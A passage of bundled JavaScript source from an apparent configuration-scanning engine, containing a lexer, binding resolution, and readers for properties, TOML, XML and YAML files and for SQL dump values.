		for (const [open, close] of this.#language.blockComments) {
			if (!text.startsWith(open, at)) continue;
			const end = text.indexOf(close, at + open.length);
			return end < 0 ? to : Math.min(to, end + close.length);
		}
		const before = at > this.#from ? text.charAt(at - 1) : "\n";
		for (const marker of this.#language.lineComments) {
			if (!text.startsWith(marker, at)) continue;
			if (marker === "#" && before > " " && !";{}),\"'".includes(before)) continue;
			if (marker === "//" && before === ":") continue;
			const end = text.indexOf("\n", at);
			return end < 0 || end > to ? to : end;
		}
		return at;
	}
	#regex(at) {
		if (!this.#regexMayBegin()) return at;
		const text = this.#text;
		const limit = Math.min(this.#to, at + maxRegex);
		let inClass = false;
		for (let end = at + 1; end < limit; end += 1) {
			const char = text.charAt(end);
			if (char === "\n") return at;
			if (char === "\\") end += 1;
			else if (char === "[") inClass = true;
			else if (char === "]") inClass = false;
			else if (char === "/" && !inClass) {
				end = this.#endOfFlags(end + 1);
				this.#tokens.push(Kind.word, at, end);
				return end;
			}
		}
		return at;
	}
	/** Whether a slash here cannot divide. */
	#regexMayBegin() {
		const { length, kind, detail } = this.#tokens;
		if (length === 0) return true;
		const last = kind[length - 1];
		if (last === Kind.word) return (detail[length - 1] & Word.beforeRegex) !== 0;
		return last !== Kind.string && last !== Kind.closeParen && last !== Kind.closeBracket && last !== Kind.closeBrace;
	}
	#endOfFlags(at) {
		while (at < this.#to && /[\w\u0080-\uffff]/.test(this.#text.charAt(at)) && !isWidePunctuation(this.#text.charCodeAt(at))) at += 1;
		return at;
	}
};
// ../engine/dist/read/parse.js
/** So often may a value get another name. */
const maxHops$1 = 3;
/**
* Reads the part [from, to) of a text as code of the language. Statements that hold no value worth knowing, nor the
* name of one, are passed over: in most files that is nearly all of them.
*/
function parse(text, language, interest, from = 0, to = text.length) {
	const tokens = lex(text, language, from, to);
	const { comments } = tokens;
	const marks = interest.marks(tokens);
	if (!marks) return {
		bindings: [],
		calls: [],
		comments
	};
	let run = readAll(tokens, marks);
	let others = interest.more(run);
	for (let hop = 0; hop < maxHops$1 && interest.follow(run, others); hop += 1) {
		run = readAll(tokens, marks);
		others = interest.more(run);
	}
	const { bindings, calls } = run;
	for (const binding of others) bindings.push(binding);
	return {
		bindings,
		calls,
		comments
	};
}
function readAll(tokens, marks) {
	const run = new Run(tokens, marks);
	const sink = run.bindings;
	readStatements(run, 0, tokens.length, {
		kind: "block",
		path: [],
		container: 0,
		sink,
		newlines: true,
		depth: 0
	});
	return run;
}
// ../engine/dist/read/parsed.js
/**
* The reading with what was parsed. Of one value under one name the reading counts, unless only the parser knows what
* it is; of one call the parser, which knows what is called.
*/
function withParsed(reading, parsed) {
	const told = /* @__PURE__ */ new Map();
	for (const binding of reading.bindings) told.set(bindingKey(binding), binding);
	const replaced = /* @__PURE__ */ new Set();
	const bindings = parsed.bindings.filter((binding) => {
		const own = told.get(bindingKey(binding));
		if (!own) return true;
		const isBetter = isKnown(binding) && (!isKnown(own) || isOther$1(own, binding));
		if (isBetter) replaced.add(own);
		return isBetter;
	});
	const calls = new Set(parsed.calls.map(callKey));
	return {
		...reading,
		bindings: [...reading.bindings.filter((one) => !replaced.has(one)), ...bindings],
		calls: [...reading.calls.filter((one) => !calls.has(callKey(one))), ...parsed.calls]
	};
}
/** The parser knows what stands in a template. */
const isOther$1 = ({ value: a }, { value: b }) => a.kind === "text" && b.kind === "text" && a.text !== b.text;
const isKnown = ({ value }) => value.kind !== "ref" && value.kind !== "unknown";
const bindingKey = ({ path, span }) => `${span.start} ${span.end} ${path.at(-1) ?? ""}`;
const callKey = ({ span }) => `${span.start} ${span.end}`;
// ../engine/dist/read/properties.js
/**
* Every text is a properties file, so this is `undefined` only when it has no entry at all. Trailing blanks, which
* Java keeps, are dropped.
*/
function readProperties(text) {
	const entries = new Entries("properties");
	let count = 0;
	for (let at = 0; at < text.length;) {
		const line = lineAt(text, at);
		const start = skipBlanks(text, line.start, line.end);
		at = line.next;
		if (start === line.end) continue;
		if (text[start] === "#" || text[start] === "!") {
			entries.comment(start, line.end);
			const commented = commentedAssignment(text, line);
			if (commented !== void 0) {
				const end = trimEnd(text, commented.value, line.end);
				add(entries, commented.key, require_worth_reading.verbatim(text, commented.value, end), commented.value, end);
			}
			continue;
		}
		const separator = separatorAt(text, start, line.end);
		const key = unescaped$1(text, start, separator.start).text;
		const value = logicalValue(text, separator.end);
		add(entries, key, value.value, separator.end, value.end);
		at = value.next;
		count++;
	}
	return count > 0 ? entries.reading() : void 0;
}
function add(entries, key, value, start, end) {
	entries.path.push(key);
	entries.add(scalarOrText(value), {
		start,
		end: Math.max(start, end)
	});
	entries.path.pop();
}
/** Blanks, one `=` or `:` (both may be missing), blanks; empty at the line's end when there is only a key. */
function separatorAt(text, start, end) {
	let at = start;
	while (at < end && !"=: 	\f".includes(text[at])) at += text[at] === "\\" ? 2 : 1;
	const keyEnd = Math.min(at, end);
	at = skipBlanks(text, keyEnd, end);
	if (at < end && (text[at] === "=" || text[at] === ":")) at = skipBlanks(text, at + 1, end);
	return {
		start: keyEnd,
		end: at
	};
}
/** The value from `start` on, over all lines that end in an odd number of backslashes. */
function logicalValue(text, start) {
	const builder = new require_worth_reading.TextBuilder(text);
	let line = lineAt(text, start);
	let from = start;
	while (isContinued(text, from, line.end) && line.next < text.length) {
		append(builder, text, from, line.end - 1);
		line = lineAt(text, line.next);
		from = skipBlanks(text, line.start, line.end);
	}
	const end = trimEnd(text, from, line.end);
	append(builder, text, from, end);
	return {
		value: builder.value(),
		end,
		next: line.next
	};
}
function isContinued(text, start, end) {
	let at = end;
	while (at > start && text[at - 1] === "\\") at--;
	return (end - at) % 2 === 1;
}
const ESCAPES$2 = {
	n: "\n",
	r: "\r",
	t: "	",
	f: "\f"
};
function unescaped$1(text, start, end) {
	const builder = new require_worth_reading.TextBuilder(text);
	append(builder, text, start, end);
	return builder.value();
}
/** Appends [start, end) with its escapes decoded; a backslash before any other character only goes away. */
function append(builder, text, start, end) {
	let copied = start;
	for (let at = start; at < end; at++) {
		if (text.charCodeAt(at) !== 92) continue;
		builder.copy(copied, at);
		const hex = text[at + 1] === "u" ? text.slice(at + 2, Math.min(at + 6, end)) : "";
		if (/^[0-9a-fA-F]{4}$/.test(hex)) {
			builder.replace(String.fromCharCode(Number.parseInt(hex, 16)), at, at + 6);
			copied = at + 6;
		} else if (at + 1 < end) {
			const escape = ESCAPES$2[text[at + 1]];
			if (escape === void 0) builder.copy(at + 1, at + 2);
			else builder.replace(escape, at, at + 2);
			copied = at + 2;
		} else copied = end;
		at = copied - 1;
	}
	builder.copy(copied, end);
}
// ../engine/dist/read/resolve.js
/** So often may a literal change its name. */
const maxHops = 4;
/** As many texts may one name stand for. */
const maxTexts = 24;
/** Longer lists are data. */
const maxSpread = 8;
/** What comes from outside the program has no literal in it. */
const outside = /^(?:env|environ|environment|process|getenv|secrets|argv|args|request|req|params|Deno|ENV|_ENV|_SERVER)$/;
/** Calls whose arguments are names get the texts that the names stand for; names that stand for names become names of the texts. */
function resolve(text, bindings, calls) {
	const isReference = ({ value }) => value.kind === "ref";
	if (!bindings.some(isReference) && !calls.some(({ args }) => args.some(isReference))) return {
		bindings,
		calls
	};
	const names = new Names();
	for (const binding of bindings) names.add(binding);
	for (const { args } of calls) for (const arg of args) names.add(arg);
	return {
		bindings: bindings.flatMap((binding) => follow(binding, names)),
		calls: calls.map((call) => call.args.some(isReference) ? {
			...call,
			args: call.args.flatMap((arg) => argument(arg, text, names))
		} : call)
	};
}
/** The binding with each text that its name stands for; itself where there is none. */
function follow(binding, names) {
	if (binding.value.kind !== "ref") return [binding];
	const texts = names.textsOf(binding.value.path);
	return texts.length === 0 ? [binding] : texts.map((value) => ({
		...binding,
		value
	}));
}
/** As `follow`; a list that is spread, `...creds`, becomes as many arguments. */
function argument(arg, text, names) {
	const followed = follow(arg, names);
	const { value: name, span } = arg;
	const list = followed[0] === arg && /[.*@]$/.test(text.slice(Math.max(0, span.start - 1), span.start)) && name.kind === "ref" ? names.listOf(name.path) : void 0;
	if (!list) return followed;
	const first = Number(arg.path.at(-1));
	return list.map((value, i) => ({
		...arg,
		path: [...arg.path.slice(0, -1), String(first + i)],
		value
	}));
}
/** What the names of a document stand for. */
var Names = class {
	#texts = /* @__PURE__ */ new Map();
	#aliases = /* @__PURE__ */ new Map();
	#lists = /* @__PURE__ */ new Map();
	add({ path, via, value }) {
		const last = path.at(-1);
		if (last === void 0 || via === "bare" || value.kind === "scalar" || value.kind === "unknown") return;
		const isIndex = /^\d*$/.test(last);
		const qualified = path.length > 1 ? path.slice(-2).join(".") : void 0;
		for (const name of isIndex ? [qualified] : [last, qualified]) {
			if (name === void 0) continue;
			if (value.kind === "text") this.#addText(name, value, qualified ?? last);
			else if (value.kind === "ref") this.#claim(this.#aliases, name, value.path);
			else this.#claim(this.#lists, name, value.items);
		}
	}
	/** The texts that a name stands for, perhaps by other names. */
	textsOf(path) {
		let step = path;
		for (let hop = 0; hop <= maxHops; hop += 1) {
			if (step.some((one) => outside.test(one))) return [];
			if (step.at(-1) === "[joined]") return this.#joined(step.slice(0, -1));
			const names = keysOf(step);
			const known = names.map((name) => this.#texts.get(name)).find((one) => one !== void 0);
			if (known) return known.isOne ? known.values : [];
			const alias = names.map((name) => this.#aliases.get(name)).find((one) => one !== void 0);
			if (!alias) return [];
			step = alias;
		}
		return [];
	}
	/** The text that the items of a list make when they are joined. */
	#joined(path) {
		const items = this.listOf(path) ?? [];
		const texts = items.filter((item) => item.kind === "text");
		return texts.length > 0 && texts.length === items.length ? [require_worth_reading.concat(texts)] : [];
	}
	/** The first items of the list that a name stands for. */
	listOf(path) {
		return keysOf(path).map((name) => this.#lists.get(name)).find((list) => list !== void 0 && list !== null)?.slice(0, maxSpread).map((item) => item.kind === "ref" ? this.textsOf(item.path)[0] ?? item : item);
	}
	#addText(name, value, source) {
		const known = this.#texts.get(name);
		if (!known) this.#texts.set(name, {
			values: [value],
			source,
			isOne: true
		});
		else if (known.isOne && known.values.every((one) => one.text !== value.text)) {
			known.isOne = known.source === source && known.values.length < maxTexts && source.includes(".");
			known.values.push(value);
		}
	}
	/** A second claim on a name leaves it without meaning. */
	#claim(claims, name, value) {
		claims.set(name, claims.has(name) ? null : value);
	}
};
/** `a.b.c` is known as `b.c`, then as `c`. */
function keysOf(path) {
	const last = path.at(-1) ?? "";
	const qualified = path.length > 1 ? [path.slice(-2).join(".")] : [];
	return /^\d*$/.test(last) ? qualified : [...qualified, last];
}
// ../engine/dist/read/sql.js
const insert = /\b(?:insert|replace)\s+(?:or\s+\w+\s+|ignore\s+)?into\s+[\w."`[\]]+\s*\(([^()]{1,2000})\)\s*(?:output\s[^()]{0,200})?values?\b/gi;
/** `COPY t (key, secret) FROM stdin;` and rows of cells with tabs between them, up to `\.`. */
const copy = /^COPY\s+[\w."]+\s*\(([^()\n]{1,2000})\)\s*FROM\s+stdin[^;\n]*;[ \t]*\r?\n/gim;
const maxRows = 2e4;
/** A binding with the column's name for each cell of PostgreSQL's dumps that could be a value. */
function copiedBindings(text) {
	const found = [];
	let done = 0;
	for (const match of text.matchAll(copy)) {
		if (match.index < done) continue;
		const columns = (match[1] ?? "").split(",").map((column) => column.trim().replaceAll("\"", ""));
		let start = match.index + match[0].length;
		for (let row = 0; row < maxRows && start < text.length && !text.startsWith("\\.", start); row += 1) {
			const newline = text.indexOf("\n", start);
			const end = newline < 0 ? text.length : newline;
			let at = start;
			for (const [index, cell] of text.slice(start, end).split("	").entries()) {
				const span = {
					start: at,
					end: at + cell.length
				};
				at = span.end + 1;
				const column = columns[index];
				const plain = cell === "t" ? "true" : cell === "f" ? "false" : void 0;
				if (column === void 0 || cell.length > 4e3) continue;
				const value = plain === void 0 ? require_worth_reading.verbatim(text, span.start, span.end) : {
					kind: "scalar",
					text: plain
				};
				found.push({
					path: [column],
					via: "column",
					value,
					span,
					container: Math.max(1, start)
				});
			}
			start = end + 1;
		}
		done = start;
	}
	return found;
}
/** A binding with the column's name for each positional value of an insert. */
function columnBindings(text, bindings, calls) {
	let semicolon = -1;
	const inserts = [...text.matchAll(insert)].map((match) => {
		const from = match.index + match[0].length;
		if (semicolon < from) semicolon = text.indexOf(";", from);
		if (semicolon < 0) semicolon = text.length;
		const columns = (match[1] ?? "").split(",").map((column) => column.trim().replace(/^["`[]|["`\]]$/g, ""));
		return {
			from,
			to: semicolon,
			columns
		};
	});
	if (inserts.length === 0) return [];
	const columnsAt = (start) => {
		let low = 0;
		let high = inserts.length;
		while (low < high) {
			const middle = low + high >> 1;
			if (inserts[middle].from <= start) low = middle + 1;
			else high = middle;
		}
		const last = inserts[low - 1];
		return last && start < last.to ? last.columns : [];
	};
	const found = [];
	const look = (binding) => {
		const index = binding.path.at(-1) ?? "";
		const { start } = binding.span;
		const column = /^\d+$/.test(index) ? columnsAt(start)[Number(index)] : void 0;
		if (column) found.push({
			...binding,
			path: [column],
			via: "column"
		});
	};
	bindings.forEach(look);
	for (const { args } of calls) args.forEach(look);
	return found;
}
// ../engine/dist/read/toml.js
/** Reads TOML into bindings from the syntax tree of toml-eslint-parser, which keeps places but not those of escapes. */
/** toml-eslint-parser reads about 1.5 MB a second: beyond this the lexer is the better reader. */
const MAX_LENGTH$1 = 1e6;
/** Its tree takes some two kilobytes for each of these marks. */
const MAX_MARKS$1 = 6e4;
const MARKS$1 = /[[{,=\n]/g;
/** Keys of more parts than this take it quadratic time. */
const LONG_KEY = /(?:\.[ \t]{0,9}(?:[\w-]{1,99}|"[^"\n]{0,99}"|'[^'\n]{0,99}')[ \t]{0,9}){65}/;
var Rejected$2 = class extends Error {};
/**
* Tables and dotted keys become paths, tables of an array with their index. `undefined` for any syntax error, since
* the parser stops at the first, for nesting deeper than MAX_DEPTH, and for files of over 1,000,000 characters or MAX_MARKS marks.
*/
function readToml(text) {
	if (text.length > MAX_LENGTH$1 || hasMore$1(text, MARKS$1, MAX_MARKS$1) || LONG_KEY.test(text)) return void 0;
	const entries = new Entries("toml");
	try {
		const program = require_lib.parseTOML(text, { tomlVersion: "next" });
		for (const { range } of program.comments) entries.comment(range[0], range[1]);
		for (const node of program.body[0].body) if (node.type === "TOMLTable") addTable(entries, text, node);
		else addKeyValue(entries, text, node);
	} catch {
		return;
	}
	return entries.reading();
}
function addTable(entries, text, table) {
	const path = table.resolvedKey.map(String);
	if (path.length > 64) throw new Rejected$2();
	const isItem = table.kind === "array";
	if (isItem) {
		entries.path.push(...path.slice(0, -1));
		entries.open(0, "list");
		entries.path.push(path.at(-1));
	} else entries.path.push(...path);
	entries.open(table.range[0]);
	for (const node of table.body) addKeyValue(entries, text, node);
	entries.close();
	if (isItem) entries.close();
	entries.path.length = 0;
}
function addKeyValue(entries, text, { key, value }) {
	const { length } = entries.path;
	for (const part of key.keys) entries.path.push(part.type === "TOMLBare" ? part.name : part.value);
	if (entries.path.length > 128) throw new Rejected$2();
	addValue(entries, text, value);
	entries.path.length = length;
}
function addValue(entries, text, node) {
	if (entries.depth >= 64) throw new Rejected$2();
	const [start, end] = node.range;
	switch (node.type) {
		case "TOMLValue":
			if (node.kind === "string") entries.add(decoded$1(text, node), {
				start,
				end
			});
			else entries.add({
				kind: "scalar",
				text: text.slice(start, end)
			}, {
				start,
				end
			});
			return;
		case "TOMLArray":
			entries.open(start, "list");
			for (const [index, element] of node.elements.entries()) {
				entries.path.push(String(index));
				addValue(entries, text, element);
				entries.path.pop();
			}
			entries.close();
			if (node.elements.length === 0) entries.add({
				kind: "list",
				items: []
			}, {
				start,
				end
			});
			return;
		case "TOMLInlineTable":
			entries.open(start);
			for (const entry of node.body) addKeyValue(entries, text, entry);
			entries.close();
			return;
		default: return node;
	}
}
/** The inside of a string; the line break after opening triple quotes does not belong to it. */
function decoded$1(text, node) {
	const quotes = node.multiline ? 3 : 1;
	let start = node.range[0] + quotes;
	const end = node.range[1] - quotes;
	if (node.multiline && text.startsWith("\r\n", start)) start += 2;
	else if (node.multiline && text[start] === "\n") start += 1;
	if (node.style === "literal" && !node.multiline) return require_worth_reading.verbatim(text, start, end);
	return unescaped(text, start, end, node.style === "literal" ? 13 : 92);
}
const ESCAPES$1 = {
	b: "\b",
	e: "\x1B",
	f: "\f",
	n: "\n",
	r: "\r",
	t: "	",
	"\"": "\"",
	"\\": "\\"
};
const HEX_LENGTHS$1 = {
	x: 2,
	u: 4,
	U: 8
};
/** Decodes escapes, unless only CR is a `mark`, and reads CRLF as LF, as the parser does. */
function unescaped(text, start, end, mark) {
	const builder = new require_worth_reading.TextBuilder(text);
	let copied = start;
	for (let at = nextMark(text, start, end, mark); at < end; at = nextMark(text, copied, end, mark)) {
		builder.copy(copied, at);
		copied = text.charCodeAt(at) === 13 ? at + 1 : addEscape(builder, text, at, end);
	}
	return builder.copy(copied, end).value();
}
/** The next backslash or the CR of a CRLF, or `end`. */
function nextMark(text, start, end, mark) {
	for (let at = start; at < end; at++) {
		const code = text.charCodeAt(at);
		if (code === mark && code === 92) return at;
		if (code === 13 && text.charCodeAt(at + 1) === 10) return at;
	}
	return end;
}
/** Adds what the escape at `at` stands for and returns where it ends. */
function addEscape(builder, text, at, end) {
	const escaped = text[at + 1];
	const hexLength = HEX_LENGTHS$1[escaped];
	const short = ESCAPES$1[escaped];
	let next = at + 2 + (hexLength ?? 0);
	if (hexLength !== void 0) builder.replace(String.fromCodePoint(Number.parseInt(text.slice(at + 2, next), 16)), at, next);
	else if (short !== void 0) builder.replace(short, at, next);
	else {
		next = at + 1;
		while (next < end && " 	\r\n".includes(text[next])) next++;
	}
	return next;
}
// ../engine/dist/read/xml.js
var Rejected$1 = class extends Error {};
/**
* Elements that are commented out are read too. `undefined` when the text does not begin with a tag, when a comment
* or the like never ends, or when nested deeper than MAX_DEPTH.
*/
function readXml(text) {
	const walk = new Walk$1(text);
	try {
		walk.read(0, text.length, false);
	} catch (error) {
		if (error instanceof Rejected$1) return void 0;
		throw error;
	}
	return text[skipBlanks(text, 0, text.length)] === "<" && walk.count > 0 ? walk.entries.reading() : void 0;
}
const NAME = /[^\s/>="'<]+/y;
const ATTRIBUTE = /([^\s=>"'/<]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"'=<`]+)))?/y;
const ENTITY = /&(?:#(\d{1,7})|#x([0-9a-f]{1,6})|(amp|lt|gt|quot|apos));/iy;
const ENTITIES = {
	amp: "&",
	lt: "<",
	gt: ">",
	quot: "\"",
	apos: "'"
};
var Walk$1 = class {
	entries = new Entries("xml");
	/** Elements met. */
	count = 0;
	#text;
	#open = [];
	constructor(text) {
		this.#text = text;
	}
	/** Reads [start, end) and closes what it opened. Text between elements that are commented out is prose. */
	read(start, end, isComment) {
		const base = this.#open.length;
		for (let at = start; at < end;) {
			const found = this.#text.indexOf("<", at);
			const tag = found < 0 || found > end ? end : found;
			if (!isComment || this.#open.length > base) this.#content(at, tag);
			at = tag < end ? this.#markup(tag, end, isComment, base) : end;
		}
		while (this.#open.length > base) this.#close();
	}
	/** What begins with the `<` at `at`; returns where it ends. */
	#markup(at, end, isComment, base) {
		const text = this.#text;
		if (text.startsWith("<!--", at) && !isComment) {
			const close = this.#find("-->", at + 4, end);
			this.entries.comment(at, close + 3);
			this.read(at + 4, close, true);
			return close + 3;
		}
		if (text.startsWith("<![CDATA[", at)) {
			const close = this.#find("]]>", at + 9, end);
			if (close > at + 9) this.entries.addContent(require_worth_reading.verbatim(text, at + 9, close), {
				start: at,
				end: close + 3
			});
			return close + 3;
		}
		if (text[at + 1] === "?" || text[at + 1] === "!") return this.#find(">", at, end) + 1;
		if (text[at + 1] === "/") return this.#endTag(at, end, base);
		NAME.lastIndex = at + 1;
		const name = NAME.exec(text)?.[0];
		return name === void 0 ? at + 1 : this.#startTag(at, name, end);
	}
	/** Without its end the rest of the file is lost, and looking for it again and again takes quadratic time. */
	#find(mark, start, end) {
		const found = this.#text.indexOf(mark, start);
		if (found < 0 || found + mark.length > end) throw new Rejected$1();
		return found;
	}
	#endTag(at, end, base) {
		NAME.lastIndex = at + 2;
		const name = NAME.exec(this.#text)?.[0];
		const index = this.#open.findLastIndex((element) => element.name === name);
		while (index >= base && this.#open.length > index) this.#close();
		return this.#find(">", at, end) + 1;
	}
	#startTag(start, name, end) {
		const text = this.#text;
		if (this.#open.length >= 64) throw new Rejected$1();
		this.count++;
		this.#enter(start, name);
		let at = start + 1 + name.length;
		while (at < end && text[at] !== ">" && !text.startsWith("/>", at) && text[at] !== "<") at = this.#attribute(at);
		const isEmpty = text[at] === "/";
		if (isEmpty) {
			if (name === "true" || name === "false") this.entries.addContent({
				kind: "scalar",
				text: name
			}, {
				start,
				end: at + 2
			});
			this.#close();
		}
		return text[at] === "<" ? at : Math.min(end, at + (isEmpty ? 2 : 1));
	}
	/** In a plist `<key>k</key><string>v</string>` means k = v; its `plist` and `dict` elements name nothing. */
	#enter(start, name) {
		const { path } = this.entries;
		const parent = this.#open.at(-1);
		this.#open.push({
			name,
			length: path.length
		});
		if (parent?.key !== void 0) {
			path.push(parent.key);
			delete parent.key;
		} else if (name !== "plist" && name !== "dict") path.push(name);
		this.entries.open(start, "elements");
	}
	#close() {
		this.entries.close();
		this.entries.path.length = this.#open.pop().length;
	}
	/** The attribute at `at`, with the blanks before it; returns where it ends, at least one character on. */
	#attribute(from) {
		const at = skipBlanks(this.#text, from, this.#text.length);
		ATTRIBUTE.lastIndex = at;
		const match = ATTRIBUTE.exec(this.#text);
		if (match === null) return at > from ? at : at + 1;
		const [all, name, double, single, bare] = match;
		const value = double ?? single ?? bare;
		const end = at + all.length;
		if (value === void 0) return end;
		const quotes = bare === void 0 ? 1 : 0;
		const start = end - value.length - quotes;
		this.entries.path.push(name);
		this.entries.add(scalarOrText(decoded(this.#text, start, end - quotes)), {
			start: start - quotes,
			end
		});
		this.entries.path.pop();
		return end;
	}
	#content(start, end) {
		const from = skipBlanks(this.#text, start, end);
		const to = trimEnd(this.#text, from, end);
		if (from === to || this.#open.length === 0) return;
		const value = decoded(this.#text, from, to);
		const parent = this.#open.at(-2);
		if (this.#open.at(-1).name === "key" && parent?.name === "dict") parent.key = value.text;
		else this.entries.addContent(scalarOrText(value), {
			start: from,
			end: to
		});
	}
};
/** [start, end) with its entities decoded; unknown ones stay as they are written. */
function decoded(text, start, end) {
	const builder = new require_worth_reading.TextBuilder(text);
	let copied = start;
	for (let at = start; at < end; at++) {
		if (text.charCodeAt(at) !== 38) continue;
		ENTITY.lastIndex = at;
		const match = ENTITY.exec(text);
		if (match === null || at + match[0].length > end) continue;
		const [all, decimal, hex, name] = match;
		const point = name === void 0 ? Number.parseInt(decimal ?? hex, decimal === void 0 ? 16 : 10) : 0;
		if (point > 1114111) continue;
		const character = name === void 0 ? String.fromCodePoint(point) : ENTITIES[name.toLowerCase()];
		builder.copy(copied, at).replace(character, at, at + all.length);
		copied = at + all.length;
		at = copied - 1;
	}
	return builder.copy(copied, end).value();
}
// ../engine/dist/read/yaml-scalars.js
var import_dist = require_dist$1.require_dist();
/** The text of a scalar token of `source`; `undefined` when its quote never closes. */
function yamlText(source, token) {
	const start = token.offset;
	const end = start + token.source.length;
	const span = {
		start,
		end
	};
	const isOneLine = !token.source.includes("\n");
	switch (token.type) {
		case "scalar":
		case "alias": return {
			value: isOneLine ? require_worth_reading.verbatim(source, start, end) : folded$1(source, start, end),
			span
		};
		case "single-quoted-scalar":
			if (token.source.length < 2 || !token.source.endsWith("'")) return void 0;
			return {
				value: folded$1(source, start + 1, end - 1, 39, doubledQuote),
				span
			};
		case "double-quoted-scalar":
			if (token.source.length < 2 || !token.source.endsWith("\"")) return void 0;
			if (isOneLine && !token.source.includes("\\")) return {
				value: require_worth_reading.verbatim(source, start + 1, end - 1),
				span
			};
			return {
				value: folded$1(source, start + 1, end - 1, 92, escapeAt),
				span
			};
		case "block-scalar": return blockScalar(source, token);
	}
}
/** The blanks and line breaks from `at` on. One break folds to a space, n breaks to n - 1 line feeds. */
function foldAt(source, at, end) {
	let breaks = 0;
	for (; at < end; at++) {
		const code = source.charCodeAt(at);
		if (code === 10) breaks++;
		else if (code !== 32 && code !== 9 && !(code === 13 && source.charCodeAt(at + 1) === 10)) break;
	}
	return {
		text: breaks === 1 ? " " : "\n".repeat(Math.max(0, breaks - 1)),
		end: at,
		hasBreak: breaks > 0
	};
}
function isFoldable(code) {
	return code === 32 || code === 10 || code === 9 || code === 13;
}
/** Text over one or more lines: line breaks fold, and what begins with the character `mark` is decoded. */
function folded$1(source, start, end, mark = -1, decode) {
	const builder = new require_worth_reading.TextBuilder(source);
	let copied = start;
	for (let at = start; at < end;) {
		const code = source.charCodeAt(at);
		if (isFoldable(code)) {
			const fold = foldAt(source, at, end);
			if (fold.hasBreak) {
				builder.copy(copied, at).replace(fold.text, at, fold.end);
				copied = fold.end;
			}
			at = Math.max(fold.end, at + 1);
		} else if (code === mark) {
			const decoded = decode?.(source, at, end);
			if (decoded !== void 0) {
				builder.copy(copied, at).replace(decoded.text, at, decoded.end);
				copied = decoded.end;
			}
			at = decoded?.end ?? at + 2;
		} else at++;
	}
	return builder.copy(copied, end).value();
}
/** In single quotes a quote is doubled. */
const doubledQuote = (_, at) => ({
	text: "'",
	end: at + 2
});
const ESCAPES = {
	"0": "\0",
	a: "\x07",
	b: "\b",
	e: "\x1B",
	f: "\f",
	n: "\n",
	r: "\r",
	t: "	",
	v: "\v",
	N: "",
	_: "\xA0",
	L: "\u2028",
	P: "\u2029",
	" ": " ",
	"\"": "\"",
	"/": "/",
	"\\": "\\",
	"	": "	"
};
const HEX_LENGTHS = {
	x: 2,
	u: 4,
	U: 8
};
function escapeAt(source, at, end) {
	const escaped = source[at + 1];
	if (escaped === "\n" || escaped === "\r" && source[at + 2] === "\n") {
		let next = at + (escaped === "\n" ? 2 : 3);
		while (next < end && (source[next] === " " || source[next] === "	")) next++;
		return {
			text: "",
			end: next
		};
	}
	const hexLength = HEX_LENGTHS[escaped];
	if (hexLength !== void 0) {
		const hex = source.slice(at + 2, Math.min(at + 2 + hexLength, end));
		const point = /^[0-9a-fA-F]+$/.test(hex) && hex.length === hexLength ? Number.parseInt(hex, 16) : Infinity;
		return point > 1114111 ? void 0 : {
			text: String.fromCodePoint(point),
			end: at + 2 + hexLength
		};
	}
	const text = ESCAPES[escaped];
	return text === void 0 ? void 0 : {
		text,
		end: at + 2
	};
}
/**
* A literal (`|`) or folded (`>`) block, by the steps of yaml's own resolve-block-scalar (2.9.1). The line feed that
* YAML adds to a last line which has none in the source is left out: nothing in the source stands for it.
*/
function blockScalar(source, token) {
	const header = token.props.find((prop) => prop.type === "block-scalar-header");
	const marks = header !== void 0 && "source" in header ? header.source : "|";
	let start = token.offset;
	for (const prop of token.props) if ("source" in prop) start += prop.source.length;
	const explicit = Number(/\d/.exec(marks)?.[0] ?? 0);
	const lines = blockLines(source, start, start + token.source.length);
	const block = blockShape(lines, token.indent, explicit);
	const builder = new require_worth_reading.TextBuilder(source);
	let end = addBlockLines(builder, source, lines, block, marks.startsWith(">"));
	const last = marks.includes("-") ? block.chomp : marks.includes("+") ? lines.length : Math.min(block.chomp + 1, lines.length);
	for (let i = Math.max(block.chomp, 1); i < last && block.chomp > 0; i++) {
		const line = lines[i];
		builder.replace("\n", end, line.start);
		end = line.start;
		if (!marks.includes("+")) break;
		builder.copy(line.start + Math.min(block.indent, line.indent), line.start + line.indent);
		end = line.start + line.indent;
	}
	return {
		value: builder.value(),
		span: {
			start: token.offset,
			end: Math.max(end, token.offset + marks.length)
		}
	};
}
function blockLines(source, start, end) {
	const lines = [];
	for (let at = start;;) {
		const newline = source.indexOf("\n", at);
		const next = newline < 0 || newline >= end ? end : newline;
		let indent = 0;
		while (at + indent < next && source.charCodeAt(at + indent) === 32) indent++;
		const isCrlf = next < end && next > at && source.charCodeAt(next - 1) === 13;
		lines.push({
			start: at,
			indent,
			end: isCrlf ? next - 1 : next
		});
		if (next === end) return lines;
		at = next + 1;
	}
}
function isEmpty$1(line) {
	return line.start + line.indent >= line.end;
}
/** The indentation to take off, the first line with content, and the first of the blank lines at the end. */
function blockShape(lines, parentIndent, explicit) {
	let chomp = lines.length;
	while (chomp > 0 && isEmpty$1(lines[chomp - 1])) chomp--;
	let indent = parentIndent + explicit;
	let content = 0;
	for (let i = 0; i < chomp; i++) {
		const line = lines[i];
		if (isEmpty$1(line)) {
			if (explicit === 0 && line.indent > indent) indent = line.indent;
		} else {
			if (explicit === 0) indent = line.indent;
			content = i;
			break;
		}
	}
	for (let i = lines.length - 1; i >= chomp; i--) if (lines[i].indent > indent) chomp = i + 1;
	return {
		indent,
		content,
		chomp
	};
}
/** Adds the lines with content and returns where the last one ends. */
function addBlockLines(builder, source, lines, block, isFolded) {
	let end = lines[0].start;
	let kept = "";
	let separator = "";
	let wasMoreIndented = false;
	for (let i = 0; i < block.chomp; i++) {
		const line = lines[i];
		const from = line.start + Math.min(block.indent, line.indent);
		const isMoreIndented = line.indent > block.indent || source.charCodeAt(from) === 9;
		if (i < block.content) {
			builder.copy(from, line.start + line.indent);
			end = lines[i + 1].start;
			builder.replace("\n", line.start + line.indent, end);
			continue;
		}
		if (isFolded && !isMoreIndented && isEmpty$1(line)) {
			if (separator === "\n") kept += "\n";
			else separator = "\n";
			continue;
		}
		if (isFolded && isMoreIndented) {
			if (separator === " ") separator = "\n";
			else if (!wasMoreIndented && separator === "\n") separator = "\n\n";
		}
		builder.replace(kept + separator, end, from).copy(from, line.end);
		kept = "";
		separator = isFolded && !isMoreIndented ? " " : "\n";
		wasMoreIndented = isFolded && isMoreIndented;
		end = line.end;
	}
	return end;
}
// ../engine/dist/read/yaml.js
/**
* Reads YAML streams into bindings from the concrete syntax tree of `yaml`, which knows every token's place and is
